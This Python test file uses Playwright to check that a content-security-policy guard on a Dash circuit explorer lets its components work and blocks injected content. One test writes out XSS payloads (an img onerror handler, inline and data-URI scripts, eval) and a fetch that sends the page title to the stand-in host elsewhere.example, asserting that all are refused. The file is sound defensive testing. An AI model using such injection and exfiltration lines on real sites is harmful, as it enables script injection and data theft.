"""What the guard's policy allows works in a real browser, and what it does not allow does nothing."""

from __future__ import annotations

from collections.abc import Callable, Iterator
from contextlib import AbstractContextManager, contextmanager
from typing import TYPE_CHECKING, Any

import dash
import dash_cytoscape as cyto
import plotly.graph_objects as go
import pytest
from bench import hostile
from dash import Input, Output, dcc, html
from werkzeug.serving import make_server
from werkzeug.wrappers import Response

from circuits.show.explore.guard import guard

from .conftest import Watched, running

if TYPE_CHECKING:
    from playwright.sync_api import Page

Serve = Callable[[dash.Dash], AbstractContextManager[str]]


def app_of_all() -> dash.Dash:
    """Every kind of component the explorer may use, with hostile texts in them."""
    app = dash.Dash("all", serve_locally=True)
    figure = go.Figure(go.Heatmap(z=[[1, 2], [3, 4]], x=["a", "b"], y=["c", "d"]))
    figure.add_scatter(
        x=["a", "b"], y=["c", "d"], hovertext=[*hostile.TEXTS[:2]], text=[*hostile.TEXTS[2:4]], mode="text+lines"
    )
    figure.update_layout(title={"text": hostile.TEXTS[1]})
    texts = [*hostile.TEXTS]
    elements: list[dict[str, Any]] = [{"data": {"id": f"n{i}", "label": text}} for i, text in enumerate(texts)]
    elements += [{"data": {"source": "n0", "target": "n1"}}]
    # No foreign text for a dropdown: its search throws on __proto__, and stops the page on a word of 10,000 letters.
    net = {"elements": elements, "layout": {"name": "grid"}, "style": {"height": "300px"}}
    app.layout = html.Div([
        html.Button("press", id="press"), html.Div(id="server"), html.Div(id="page"), html.Button("save", id="save"),
        html.Div([html.P(text) for text in texts]),
        dcc.Dropdown(["a", "b"], "a", id="one"), dcc.Slider(0, 10, 1, value=3), dcc.RangeSlider(0, 10, value=[1, 2]),
        dcc.Checklist(texts, texts[:1]), dcc.RadioItems(texts, texts[0]), dcc.Input(id="typed", value=texts[0]),
        dcc.Textarea(value=texts[0]), dcc.Loading(html.Div(texts[3])), dcc.Tabs([dcc.Tab(label=texts[1], children=texts[2])]),
        dcc.Store(id="kept"), dcc.Download(id="down"), dcc.Location(id="where"), dcc.Interval(id="tick", disabled=True),
        dcc.Markdown(texts[6]), dcc.Graph(id="plot", figure=figure),
        cyto.Cytoscape(id="net", stylesheet=[{"selector": "node[label]", "style": {"label": "data(label)"}}], **net),
    ])  # fmt: skip

    @app.callback(Output("server", "children"), Input("press", "n_clicks"))
    def pressed(count: int | None) -> str:
        return f"server {count}"

    @app.callback(Output("down", "data"), Input("save", "n_clicks"), prevent_initial_call=True)
    def saved(_: int | None) -> Any:
        return dcc.send_string("text", "text.txt")

    app.clientside_callback(
        "function (n) { return 'page ' + n; }", Output("page", "children"), Input("press", "n_clicks")
    )
    guard(app.server, scripts=app.csp_hashes())
    return app


@pytest.fixture(scope="module")
def address(serve: Serve) -> Iterator[str]:
    with serve(app_of_all()) as found:
        yield found


def test_everything_the_explorer_uses_works_under_the_policy(browser_page: Page, address: str) -> None:
    page = browser_page
    answer = page.goto(address)
    assert answer is not None
    assert "default-src 'none'" in answer.headers["content-security-policy"]
    page.wait_for_selector("#plot .main-svg")
    page.wait_for_selector("#net canvas")
    page.click("#press")
    page.wait_for_selector("#server:text-is('server 1')")  # wait_for_function needs eval, which the policy refuses
    page.wait_for_selector("#page:text-is('page 1')")
    with page.expect_download() as down:
        page.click("#save")
    assert down.value.suggested_filename == "text.txt"
    page.hover("#plot")
    with page.expect_download() as down:  # plotly draws the picture from a blob
        page.click("#plot .modebar-btn[data-title*='ownload']")
    assert down.value.suggested_filename.endswith(".png")


def test_hostile_texts_are_texts(browser_page: Page, address: str) -> None:
    page = browser_page
    page.goto(address)
    page.wait_for_selector("#plot .main-svg")
    page.wait_for_selector("#net canvas")
    page.hover("#plot .nsewdrag")
    page.wait_for_timeout(300)
    assert page.evaluate("window.hostile") is None
    assert hostile.TEXTS[0] in page.inner_text("body")
    assert page.evaluate("getComputedStyle(document.body).display") != "none"


def test_a_script_that_gets_into_the_page_does_not_run(browser_page: Page, address: str, watched: Watched) -> None:
    page = browser_page
    failed: list[tuple[str, str | None]] = []
    page.on("requestfailed", lambda request: failed.append((request.url, request.failure)))
    page.goto(address)
    page.wait_for_selector("#press")
    page.evaluate(
        """() => {
            const div = document.createElement("div");
            div.innerHTML = "<img src=x: onerror=window.hostile=1><b onclick=window.hostile=1 id=b>b</b>";
            document.body.append(div);
            document.getElementById("b").click();
            const script = document.createElement("script");
            script.textContent = "window.hostile = 1";
            document.body.append(script);
            const far = document.createElement("script");
            far.src = "data:text/javascript,window.hostile=1";
            document.body.append(far);
            fetch("http://elsewhere.example/?" + document.title).catch(() => 0);
            new Image().src = "http://elsewhere.example/x.png";
            setTimeout("window.hostile = 1", 0);
            setTimeout(() => { try { eval("window.hostile = 1"); } catch (error) { window.evaluated = error.name; } }, 0);
        }"""
    )
    page.wait_for_timeout(300)
    assert page.evaluate("window.hostile") is None
    assert page.evaluate("window.evaluated") == "EvalError"
    assert sum("Content Security Policy" in text for text in watched.errors) >= 6
    # Refused before anything was sent.
    assert {why for url, why in failed if url in watched.foreign} == {"csp"}
    assert set(watched.foreign) <= {url for url, _ in failed}
    watched.errors.clear()
    watched.foreign.clear()


def test_another_page_can_neither_frame_it_nor_read_it(browser_page: Page, address: str, watched: Watched) -> None:
    page = browser_page
    with another_port() as elsewhere:
        page.goto(elsewhere)
        found = page.evaluate(
            """async (address) => {
                const frame = document.createElement("iframe");
                frame.src = address;
                document.body.append(frame);
                await new Promise((done) => { frame.onload = done; setTimeout(done, 3000); });
                const tried = {};
                let inside = null;
                try { inside = frame.contentDocument; } catch (error) { inside = null; }
                tried.frame = inside === null ? "closed" : inside.body.innerText;
                for (const mode of ["cors", "no-cors"]) {
                    try { tried[mode] = (await fetch(address + "_dash-layout", {mode})).type; }
                    catch (error) { tried[mode] = error.name; }
                }
                try {
                    const how = {method: "POST", mode: "no-cors", body: "{}"};
                    tried.post = (await fetch(address + "_dash-update-component", how)).type;
                } catch (error) { tried.post = error.name; }
                return tried;
            }""",
            address,
        )
    assert found == {"frame": "closed", "cors": "TypeError", "no-cors": "TypeError", "post": "TypeError"}
    watched.errors.clear()


@contextmanager
def another_port() -> Iterator[str]:
    """An empty page of another server on this machine."""
    page = Response("<!doctype html><link rel=icon href=data:,><p>elsewhere", mimetype="text/html")
    server = make_server("127.0.0.1", 0, page)
    with running(server) as address:
        yield address
